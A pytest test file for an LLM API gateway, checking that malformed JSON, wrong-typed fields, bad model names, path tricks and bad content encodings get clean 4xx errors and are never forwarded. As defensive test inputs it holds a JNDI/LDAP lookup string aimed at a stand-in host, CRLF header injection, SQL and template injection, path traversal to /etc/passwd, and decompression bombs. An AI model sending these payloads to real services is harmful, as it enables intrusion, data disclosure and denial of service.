"""Bad input through the listener: always a 4xx in the dialect of the path, naming the field; never a 500; nothing upstream.

After every one of them the same connection carries a good request.
"""

from __future__ import annotations

import gzip
import json
import zlib
from typing import Any, NamedTuple
from urllib.parse import unquote

import pytest

from tests.hard.live import MAX_BODY, Live
from tests.hard.misbehaving import Provider
from tests.hard.raw_client import RawClient, Reply, request
from tests.hard.speech import AUTH, CHAT, ERROR_SHAPES, JSON_TYPE, MODELS, dumps

GOOD: dict[str, dict[str, Any]] = {
    "/v1/chat/completions": {"model": "gpt-4o", "messages": [{"role": "user", "content": "Hi"}]},
    "/v1/completions": {"model": "gpt-4o", "prompt": "Hi"},
    "/v1/embeddings": {"model": "gpt-4o", "input": "Hi"},
    "/v1/messages": {"model": "gpt-4o", "max_tokens": 10, "messages": [{"role": "user", "content": "Hi"}]},
}
paths = pytest.mark.parametrize("path", list(GOOD))


def dialect_of(path: str) -> str:
    return "anthropic" if path == "/v1/messages" else "openai"


def post(client: RawClient, path: str, body: bytes, *headers: str) -> Reply:
    client.send(request(path, body, AUTH, JSON_TYPE, *headers))
    return client.reply()


def judge(reply: Reply, path: str, client: RawClient, provider: Provider, statuses: tuple[int, ...] = (400,)) -> dict[str, Any]:
    assert reply.status in statuses, (reply.status, reply.body[:500])
    assert reply.header("content-type") == "application/json"
    assert reply.header("x-edgegate-error-source") == "client"
    error = ERROR_SHAPES[dialect_of(path)](reply.body)
    provider.nothing()
    if reply.closes:
        client.assert_closed()
    else:
        client.send(request("/v1/chat/completions", CHAT, AUTH))
        assert client.reply().status == 200
    return error


def with_text(raw: bytes) -> bytes:
    """A chat-shaped body for every path whose text is these raw bytes."""
    return b'{"model": "gpt-4o", "max_tokens": 5, "prompt": "x", "input": "x", "messages": [{"role": "user", "content": "' + raw + b'"}]}'


def with_field(raw: bytes) -> bytes:
    return (
        b'{"model": "gpt-4o", "max_tokens": 5, "prompt": "x", "input": "x", "messages": [{"role": "user", "content": "x"}], "extra": '
        + raw
        + b"}"
    )


NOT_JSON: list[tuple[str, bytes]] = [
    ("nothing", b""),
    ("blanks", b" \r\n\t "),
    ("an array", b"[]"),
    ("an array of requests", b"[" + CHAT + b"]"),
    ("a string", b'"x"'),
    ("a number", b"1"),
    ("null", b"null"),
    ("true", b"true"),
    ("text", b"hello"),
    ("form data", b"model=gpt-4o&messages=x"),
    ("XML", b"<?xml version='1.0'?><model>gpt-4o</model>"),
    ("half a document", CHAT[:-3]),
    ("one brace", b"{"),
    ("a document and a brace", CHAT + b"}"),
    ("two documents", CHAT + CHAT),
    ("a document and rubbish", CHAT + b" rubbish"),
    ("a document and a NUL", CHAT + b"\0"),
    ("a byte order mark", b"\xef\xbb\xbf" + CHAT),
    ("UTF-16", CHAT.decode().encode("utf-16")),
    ("UTF-32", CHAT.decode().encode("utf-32-le")),
    ("Latin-1", with_text("é".encode("latin-1"))),
    ("bytes that are not UTF-8", with_text(b"\xff\xfe\xfd")),
    ("an overlong encoding", with_text(b"\xc0\xaf")),
    ("half a letter", with_text(b"\xe2\x82")),
    ("an encoded surrogate", with_text(b"\xed\xa0\x80")),
    ("half of a surrogate pair", with_text(rb"\ud800")),
    ("the second half of a surrogate pair", with_text(rb"\udc00")),
    ("a surrogate pair the wrong way round", with_text(rb"\udc00\ud800")),
    ("half of a surrogate pair in a key", b'{"\\ud800": 1, ' + CHAT[1:]),
    ("a control character", with_text(b"\x01")),
    ("a line break in a string", with_text(b"a\nb")),
    ("a NUL in a string", with_text(b"a\0b")),
    ("a bad escape", with_text(rb"\x41")),
    ("half an escape", with_text(rb"\u12")),
    ("NaN", with_field(b"NaN")),
    ("Infinity", with_field(b"Infinity")),
    ("-Infinity", with_field(b"-Infinity")),
    ("a number with a plus", with_field(b"+1")),
    ("a number with a zero in front", with_field(b"01")),
    ("a number without digits", with_field(b".5")),
    ("a hex number", with_field(b"0x10")),
    ("single quotes", CHAT.replace(b'"', b"'")),
    ("a comma too many", CHAT[:-1] + b",}"),
    ("a comment", CHAT[:-1] + b"/* x */}"),
    ("an undefined", with_field(b"undefined")),
    ("2,000 arrays in each other", with_field(b"[" * 2000 + b"]" * 2000)),
    ("2,000 objects in each other", with_field(b'{"a":' * 2000 + b"1" + b"}" * 2000)),
    ("100,000 open brackets", b"[" * 100_000),
    ("100,000 open braces", b'{"a":' * 40_000),
    ("1,100 arrays in each other", with_field(b"[" * 1100 + b"]" * 1100)),
]


@paths
@pytest.mark.parametrize("body", [body for _, body in NOT_JSON], ids=[name for name, _ in NOT_JSON])
def test_what_is_no_json_object_is_400(path: str, body: bytes, client: RawClient, provider: Provider) -> None:
    judge(post(client, path, body), path, client, provider)


class Wrong(NamedTuple):
    path: str
    field: str
    value: Any


VALUES: dict[str, Any] = {
    "text": "x",
    "number": 3,
    "float": 1.5,
    "true": True,
    "array": [],
    "array of numbers": [1],
    "object": {},
    "array of arrays": [[]],
    "array of null": [None],
    "array of text": ["x"],
    "empty text": "",
    "large": 10**30,
    "negative": -1,
    "nested": {"a": {"b": [None]}},
}
FIT: dict[str, tuple[str, ...]] = {
    "text": ("text", "empty text"),
    "filled": ("text",),
    "number": ("number", "float", "large", "negative"),
    "integer": ("number", "negative"),
    "positive": ("number",),
    "flag": ("true",),
    "object": ("object", "nested"),
    "objects": ("array",),
    "messages": (),
    "choice": ("text", "empty text"),
    "object with a type": (),
    "texts": ("array", "array of text"),
    "text or texts": ("text", "empty text", "array", "array of text"),
    "input": ("text", "empty text", "array of text", "array of numbers", "array of arrays", "array"),
    "system": ("text", "empty text", "array"),
}
FIELDS: dict[str, dict[str, str]] = {
    "/v1/chat/completions": {
        "model": "filled",
        "messages": "messages",
        "stream": "flag",
        "stream_options": "object",
        "tools": "objects",
        "tool_choice": "choice",
        "functions": "objects",
        "response_format": "object with a type",
        "stop": "text or texts",
        "n": "positive",
        "max_tokens": "positive",
        "max_completion_tokens": "positive",
        "temperature": "number",
        "top_p": "number",
        "presence_penalty": "number",
        "frequency_penalty": "number",
        "seed": "integer",
        "logit_bias": "object",
        "parallel_tool_calls": "flag",
        "user": "text",
        "metadata": "object",
    },
    "/v1/completions": {
        "model": "filled",
        "prompt": "input",
        "stream": "flag",
        "n": "positive",
        "max_tokens": "positive",
        "temperature": "number",
        "stop": "text or texts",
    },
    "/v1/embeddings": {"model": "filled", "input": "input", "dimensions": "positive", "encoding_format": "text"},
    "/v1/messages": {
        "model": "filled",
        "messages": "messages",
        "max_tokens": "positive",
        "stream": "flag",
        "system": "system",
        "stop_sequences": "texts",
        "temperature": "number",
        "top_p": "number",
        "top_k": "integer",
        "tools": "objects",
        "tool_choice": "object with a type",
        "thinking": "object with a type",
        "metadata": "object",
    },
}
WRONG = [
    Wrong(path, field, value)
    for path, fields in FIELDS.items()
    for field, kind in fields.items()
    for name, value in VALUES.items()
    if name not in FIT[kind] and not (kind in ("positive", "integer") and name in ("large",))
]


@pytest.mark.parametrize("path", list(FIELDS))
@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
def test_a_field_of_the_wrong_type_is_400_and_named(path: str, stream: bool, gateway: Live, client: RawClient, provider: Provider) -> None:
    """Every known field with every kind of wrong value, one after the other on one connection."""
    failures = []
    for wrong in WRONG:
        if wrong.path != path:
            continue
        body = GOOD[path] | ({"stream": True} if stream and path != "/v1/embeddings" else {}) | {wrong.field: wrong.value}
        reply = post(client, path, dumps(body))
        try:
            assert reply.status == 400, f"status {reply.status}"
            error = ERROR_SHAPES[dialect_of(path)](reply.body)
            said = str(error.get("param")) + " " + error["message"]
            assert wrong.field in said, "does not name the field"
            provider.nothing()
        except AssertionError as failure:
            failures.append(f"{wrong.field}={json.dumps(wrong.value)}: {failure} {reply.body[:160]!r}")
            client.socket.close()
            client = RawClient(gateway.port)
            provider.clear()
    assert not failures, "\n".join(failures)


@pytest.mark.parametrize("value", ["yes", "true", 1, 0, "false", [], {}], ids=repr)
@pytest.mark.parametrize("path", ["/v1/chat/completions", "/v1/completions", "/v1/messages"])
def test_stream_is_true_or_false_and_nothing_else(path: str, value: Any, client: RawClient, provider: Provider) -> None:
    error = judge(post(client, path, dumps(GOOD[path] | {"stream": value})), path, client, provider)
    assert "stream" in str(error.get("param")) + error["message"]


REQUIRED = [
    ("/v1/chat/completions", "model"),
    ("/v1/chat/completions", "messages"),
    ("/v1/completions", "model"),
    ("/v1/completions", "prompt"),
    ("/v1/embeddings", "model"),
    ("/v1/embeddings", "input"),
    ("/v1/messages", "model"),
    ("/v1/messages", "messages"),
    ("/v1/messages", "max_tokens"),
]


@pytest.mark.parametrize(("path", "field"), REQUIRED)
@pytest.mark.parametrize("how", ["left out", "null"])
def test_a_required_field_that_is_missing_is_400_and_named(path: str, field: str, how: str, client: RawClient, provider: Provider) -> None:
    if (path, field) == ("/v1/completions", "prompt"):
        pytest.skip("OpenAI's own API has a default for it")
    body = dict(GOOD[path])
    body.pop(field)
    if how == "null":
        body[field] = None
    error = judge(post(client, path, dumps(body)), path, client, provider)
    assert field in str(error.get("param")) + error["message"]


BAD_MESSAGES: list[Any] = [
    [],
    [{}],
    ["Hi"],
    [None],
    [[]],
    [{"role": "user"}, 3],
    [{"role": "nobody", "content": "x"}],
    [{"role": 3, "content": "x"}],
    [{"role": ["user"], "content": "x"}],
    [{"role": {}, "content": "x"}],
    [{"role": "user", "content": 3}],
    [{"role": "user", "content": {}}],
    [{"role": "user", "content": [3]}],
    [{"role": "user", "content": [{}]}],
    [{"role": "user", "content": [{"type": 3}]}],
    [{"role": "user", "content": [{"type": ["text"], "text": "x"}]}],
    [{"role": "user", "content": [{"type": "text"}]}],
    [{"role": "user", "content": [{"type": "text", "text": 3}]}],
    [{"role": "user", "content": [{"type": "text", "text": {"a": 1}}]}],
    [{"role": "user", "content": [[{"type": "text", "text": "x"}]]}],
    {"role": "user", "content": "x"},
    "Hi",
]


@pytest.mark.parametrize("messages", BAD_MESSAGES, ids=lambda value: json.dumps(value)[:60])
@pytest.mark.parametrize("path", ["/v1/chat/completions", "/v1/messages"])
@pytest.mark.parametrize("target", ["openai", "anthropic"])
def test_bad_messages_are_400(path: str, target: str, messages: Any, client: RawClient, provider: Provider) -> None:
    error = judge(post(client, path, dumps(GOOD[path] | {"model": MODELS[target], "messages": messages})), path, client, provider)
    assert "messages" in str(error.get("param")) + error["message"]


def _call(arguments: str) -> dict[str, Any]:
    call = {"id": "c", "type": "function", "function": {"name": "f", "arguments": arguments}}
    return {"role": "assistant", "content": None, "tool_calls": [call]}


ODD: list[tuple[str, Any]] = [
    ("content of null", {"messages": [{"role": "user", "content": None}]}),
    ("empty content", {"messages": [{"role": "user", "content": ""}]}),
    ("no parts", {"messages": [{"role": "user", "content": []}]}),
    ("an unknown part", {"messages": [{"role": "user", "content": [{"type": "hologram", "x": 1}]}]}),
    ("an image that is no URL", {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "rubbish"}}]}]}),
    (
        "an image of rubbish",
        {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "data:image/png;base64,@@@"}}]}]},
    ),
    ("an image without a type", {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "data:,x"}}]}]}),
    (
        "an image in a file",
        {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "file:///etc/passwd"}}]}]},
    ),
    ("a tool answer without a call", {"messages": [{"role": "tool", "tool_call_id": "x", "content": "y"}]}),
    ("a call with bad arguments", {"messages": [_call("{bad"), {"role": "tool", "tool_call_id": "c", "content": "y"}]}),
    ("a call whose arguments are an array", {"messages": [_call("[1]")]}),
    ("a call with empty arguments", {"messages": [_call("")]}),
    ("a call whose arguments are deep", {"messages": [_call("[" * 5000 + "]" * 5000)]}),
    ("an assistant without words", {"messages": [{"role": "assistant"}]}),
    ("only a system message", {"messages": [{"role": "system", "content": "x"}]}),
    ("a tool with an empty schema", {"tools": [{"type": "function", "function": {"name": "f", "parameters": {}}}]}),
    (
        "a tool with a deep schema",
        {"tools": [{"type": "function", "function": {"name": "f", "parameters": json.loads('{"a":' * 150 + "1" + "}" * 150)}}]},
    ),
    ("a tool with a long name", {"tools": [{"type": "function", "function": {"name": "f" * 10_000}}]}),
    ("a tool of another type", {"tools": [{"type": "web_search", "x": 1}]}),
    ("a choice of a tool that is not there", {"tool_choice": {"type": "function", "function": {"name": "nope"}}}),
    ("a large integer", {"seed": 2**64}),
    ("a larger integer", {"seed": 10**40}),
    ("a large float", {"temperature": 1e308}),
    ("n of 2^63", {"n": 2**63}),
    ("max_tokens of 2^70", {"max_tokens": 2**70}),
    ("a deep unknown field", {"extra": json.loads("[" * 150 + "]" * 150)}),
    ("a long model's extra", {"user": "u" * 100_000}),
    ("letters of all kinds", {"user": "\x7f\u2028\u2029\ufeff\U0001f600\u0000"}),
    ("a schema", {"response_format": {"type": "json_schema", "json_schema": {"name": "s", "schema": {"$ref": "#"}}}}),
    ("an unknown format", {"response_format": {"type": "haiku"}}),
    ("a logit bias of rubbish", {"logit_bias": {"x": "y"}}),
    ("metadata of rubbish", {"metadata": {"user_id": 3}}),
    ("stop sequences of nothing", {"stop": ["", ""]}),
    ("a reasoning effort of rubbish", {"reasoning_effort": {"x": 1}}),
    ("thinking of rubbish", {"thinking": 3}),
    ("cache control of rubbish", {"messages": [{"role": "user", "content": [{"type": "text", "text": "x", "cache_control": 3}]}]}),
    (
        "thinking blocks of rubbish",
        {"messages": [{"role": "assistant", "content": "x", "thinking_blocks": 3}, {"role": "user", "content": "x"}]},
    ),
    (
        "annotations of rubbish",
        {
            "messages": [
                {"role": "assistant", "content": "x", "annotations": "y", "audio": 3, "refusal": {}},
                {"role": "user", "content": "x"},
            ]
        },
    ),
]


@pytest.mark.parametrize("more", [more for _, more in ODD], ids=[name for name, _ in ODD])
@pytest.mark.parametrize("model", ["gpt-4o", "claude-haiku-4-5", "gemini/gemini-2.5-flash"])
@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
def test_odd_but_possible_chats_are_never_a_fault_of_ours(
    model: str, more: dict[str, Any], stream: bool, client: RawClient, provider: Provider
) -> None:
    """Either the provider is asked, once and in good JSON, or the client is told; a 500 is neither."""
    body = GOOD["/v1/chat/completions"] | {"model": model, "stream": stream} | more
    reply = post(client, "/v1/chat/completions", dumps(body))
    if reply.status == 400:
        assert reply.header("x-edgegate-error-source") == "client"
        ERROR_SHAPES["openai"](reply.body)
        provider.nothing()
    else:
        assert reply.status in (200, 502), reply.body  # 502: the provider's good answer is no Gemini
        assert json.loads(provider.requests[0].body)
        assert len(provider.requests) <= 2
    client.assert_usable()


# -- models and paths

BAD_MODELS = [
    "nope",
    "gpt-4",
    "../gpt-4o",
    "gpt-4o?x=y",
    "gpt-4o#x",
    "gpt-4o\r\nx-evil: 1",
    "gpt-4o\0",
    "a" * 50_000,
    "\u202egpt-4o",
    "http://evil.example/v1",
    "//evil.example",
    "nope/gpt-4o",
    " gpt-4o",
    "GPT-4O",
    "\U0001f600",
    "%67pt-4o",
    "${jndi:ldap://evil}",
    "{{7*7}}",
    "' OR 1=1 --",
]


@paths
@pytest.mark.parametrize("model", BAD_MODELS, ids=lambda value: repr(value[:30]))
def test_an_unknown_model_is_404_and_goes_nowhere(path: str, model: str, client: RawClient, provider: Provider) -> None:
    if model in ("gpt-4",):
        pytest.skip("a prefix of the vendor's serves it")
    reply = post(client, path, dumps(GOOD[path] | {"model": model}))
    if reply.status == 200:  # the vendor's prefix: then it is a name in JSON and nothing more
        got = provider.only()
        assert json.loads(got.body)["model"] == model
        assert got.target in ("/v1/chat/completions", "/v1/completions", "/v1/embeddings", "/v1/messages")
        assert all("\n" not in value and "\r" not in value for _, value in reply.headers)
        return
    judge(reply, path, client, provider, (404,))


PATH_TRICKS = [
    "../../admin",
    "x?key=1",
    "x#y",
    "x\r\nx-evil: 1",
    "x y",
    "a/b",
    "..%2f..%2fadmin",
    "x:streamGenerateContent?",
    "x\\..\\y",
    "\U0001f600",
    "x\0",
    "%",
]


@pytest.mark.parametrize("name", PATH_TRICKS, ids=repr)
@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
def test_a_model_name_that_stands_in_the_providers_path_cannot_leave_its_place(
    name: str, stream: bool, client: RawClient, provider: Provider
) -> None:
    reply = post(client, "/v1/chat/completions", dumps(GOOD["/v1/chat/completions"] | {"model": f"gemini/{name}", "stream": stream}))
    assert reply.status in (400, 404, 502), reply.body
    if provider.requests:
        target = provider.requests[0].target
        assert provider.stray == b""
        assert target.startswith("/v1beta/models/")
        rest = target.removeprefix("/v1beta/models/")
        place, _, action = rest.rpartition(":")
        assert action == ("streamGenerateContent?alt=sse" if stream else "generateContent")
        assert not set("/?#\\ ") & set(place)
        assert not {".", ".."} & set(unquote(place).split("/")), "the path leaves its place once it is decoded"


@pytest.mark.parametrize("prefix", ["openai", "anthropic"])
@pytest.mark.parametrize("name", ["../x", "x?y", "x\r\ny: z", "x\0"], ids=repr)
def test_a_named_providers_model_stays_a_name(prefix: str, name: str, client: RawClient, provider: Provider) -> None:
    reply = post(client, "/v1/chat/completions", dumps(GOOD["/v1/chat/completions"] | {"model": f"{prefix}/{name}"}))
    assert reply.status == 200
    got = provider.only()
    assert json.loads(got.body)["model"] == name
    assert got.target in ("/v1/chat/completions", "/v1/messages")
    client.assert_usable()


UNKNOWN_PATHS = [
    "/",
    "/v1",
    "/v2/chat/completions",
    "/v1/chat",
    "/v1/response",
    "/admin",
    "/openai",
    "/nobody/v1/x",
    "/.env",
    "/v1/messages/batch",
    "/favicon.ico",
    "/%2e%2e/etc/passwd",
    "/anthropic",
]


@pytest.mark.parametrize("path", UNKNOWN_PATHS)
@pytest.mark.parametrize("method", ["GET", "POST"])
def test_an_unknown_path_is_404(path: str, method: str, client: RawClient, provider: Provider) -> None:
    client.send(request(path, b"{}" if method == "POST" else b"", AUTH, method=method))
    reply = client.reply()
    assert reply.status == 404
    ERROR_SHAPES["anthropic" if path.startswith("/v1/messages") else "openai"](reply.body)
    provider.nothing()
    if not reply.closes:
        client.assert_usable()


def test_an_unknown_path_speaks_anthropic_to_its_sdk(client: RawClient) -> None:
    client.send(request("/nowhere", b"{}", AUTH, "anthropic-version: 2023-06-01"))
    reply = client.reply()
    assert reply.status == 404
    ERROR_SHAPES["anthropic"](reply.body)


@pytest.mark.parametrize("id", ["nope", "%ff", "%00", "a" * 5000, "..", "%2e%2e%2f", "%ED%A0%80", "<script>", "%0d%0ax:y"])
def test_an_unknown_model_in_the_list_is_404(id: str, client: RawClient, provider: Provider) -> None:
    client.send(request(f"/v1/models/{id}", b"", AUTH, method="GET"))
    reply = client.reply()
    assert reply.status in (404, 400), reply.body
    ERROR_SHAPES["openai"](reply.body)
    client.assert_usable()


# -- encodings

BOMB = gzip.compress(b'{"a": "' + b"x" * 50_000_000 + b'"}')
SPACES = gzip.compress(CHAT[:-1] + b" " * 200_000 + b"}")
ENCODINGS: list[tuple[str, str, bytes]] = [
    ("gzip that is not", "gzip", CHAT),
    ("gzip that is cut", "gzip", gzip.compress(CHAT)[:-4]),
    ("gzip with rubbish behind", "gzip", gzip.compress(CHAT) + b"rubbish"),
    ("gzip with a bad sum", "gzip", gzip.compress(CHAT)[:-8] + b"\0" * 8),
    ("gzip of nothing", "gzip", gzip.compress(b"")),
    ("an empty gzip body", "gzip", b""),
    ("a gzip bomb", "gzip", BOMB),
    ("a deflate bomb", "deflate", zlib.compress(b"x" * 50_000_000)),
    ("a gzip bomb of small bombs", "gzip", gzip.compress(b"x" * 100_000) * 400),
    ("deflate that is not", "deflate", CHAT),
    ("brotli", "br", CHAT),
    ("zstd", "zstd", CHAT),
    ("compress", "compress", CHAT),
    ("an unknown encoding", "rot13", CHAT),
    ("two encodings", "gzip, gzip", gzip.compress(gzip.compress(CHAT))),
    ("an encoding of odd letters", "gz\xefp", CHAT),
    ("a long encoding", "x" * 5000, CHAT),
]


@paths
@pytest.mark.parametrize(("encoding", "body"), [(e, b) for _, e, b in ENCODINGS], ids=[name for name, _, _ in ENCODINGS])
def test_a_bad_content_encoding_is_refused(path: str, encoding: str, body: bytes, client: RawClient, provider: Provider) -> None:
    judge(post(client, path, body, f"content-encoding: {encoding}"), path, client, provider, (400, 413, 415))


@pytest.mark.parametrize(
    ("encoding", "body"),
    [
        ("gzip", gzip.compress(CHAT)),
        ("GZIP", gzip.compress(CHAT)),
        ("x-gzip", gzip.compress(CHAT)),
        ("deflate", zlib.compress(CHAT)),
        ("identity", CHAT),
        ("gzip", gzip.compress(CHAT[:20]) + gzip.compress(CHAT[20:])),
    ],
    ids=["gzip", "in capitals", "x-gzip", "deflate", "identity", "two members"],
)
def test_a_good_content_encoding_is_undone_before_the_request_goes_on(
    encoding: str, body: bytes, client: RawClient, provider: Provider
) -> None:
    assert post(client, "/v1/chat/completions", body, f"content-encoding: {encoding}").status == 200
    got = provider.only()
    assert got.body == CHAT
    assert got.header("content-encoding") is None


@paths
def test_413_by_content_length_speaks_the_dialect(path: str, client: RawClient, provider: Provider) -> None:
    client.send(request(path, b"", AUTH).replace(b"content-length: 0", b"content-length: %d" % (MAX_BODY + 1)))
    reply = client.reply()
    assert reply.status == 413
    ERROR_SHAPES[dialect_of(path)](reply.body)
    client.assert_closed()
    provider.nothing()


@paths
def test_413_of_a_chunked_body_speaks_the_dialect(path: str, client: RawClient, provider: Provider) -> None:
    client.send(request(path, b"", AUTH).replace(b"content-length: 0", b"transfer-encoding: chunked"))
    client.send(b"%x\r\n" % (MAX_BODY + 1) + b" " * (MAX_BODY + 1) + b"\r\n0\r\n\r\n")
    reply = client.reply()
    assert reply.status == 413
    ERROR_SHAPES[dialect_of(path)](reply.body)
    provider.nothing()


# -- what JSON leaves open goes on as it came

SAME = [
    ("a large integer", b'"x": 123456789012345678901234567890'),
    ("a precise float", b'"temperature": 0.1234567890123456789'),
    ("an unknown field", b'"x": [1.0, 1e400, -0, "\\u0041\\/"]'),
    ("a key twice", b'"user": "a", "user": "b"'),
    ("an escaped key", b'"\\u0075ser": "a"'),
    ("odd blanks", b'\t"user"\r\n : \n "a"'),
    ("a nested model", b'"extra": {"model": "other", "n": 3}'),
]


@pytest.mark.parametrize("field", [field for _, field in SAME], ids=[name for name, _ in SAME])
def test_a_request_that_needs_no_edit_goes_on_byte_for_byte(field: bytes, client: RawClient, provider: Provider) -> None:
    body = CHAT[:-1] + b", " + field + b"}"
    if b"1e400" in field:
        reply = post(client, "/v1/chat/completions", body)
        assert reply.status in (200, 400)
        if reply.status == 400:
            return
    else:
        assert post(client, "/v1/chat/completions", body).status == 200
    assert provider.only().body == body


@pytest.mark.parametrize(
    "second",
    [
        b'"model": "nope"',
        b'"model": "openai/gpt-4o"',
        b'"model": "claude-haiku-4-5"',
        b'"stream": true',
        b'"x-budget-key": "x", "x-budget-key": "y"',
    ],
)
def test_a_key_that_stands_twice_means_one_thing_to_us_and_to_the_provider(second: bytes, client: RawClient, provider: Provider) -> None:
    body = CHAT[:-1] + b', "stream": false, ' + second + b"}"
    reply = post(client, "/v1/chat/completions", body)
    if not provider.requests:
        assert 400 <= reply.status < 500
        return
    assert reply.status == 200
    got = provider.only()
    last = json.loads(got.body)
    assert got.target == ("/v1/messages" if last["model"].startswith("claude") else "/v1/chat/completions")
    assert reply.header("x-edgegate-model") == last["model"]
    models = [value for name, value in json.loads(got.body, object_pairs_hook=list) if name == "model"]
    if len(set(models)) > 1:
        raise AssertionError(f"the provider got two different models, of which it may take either: {models}")
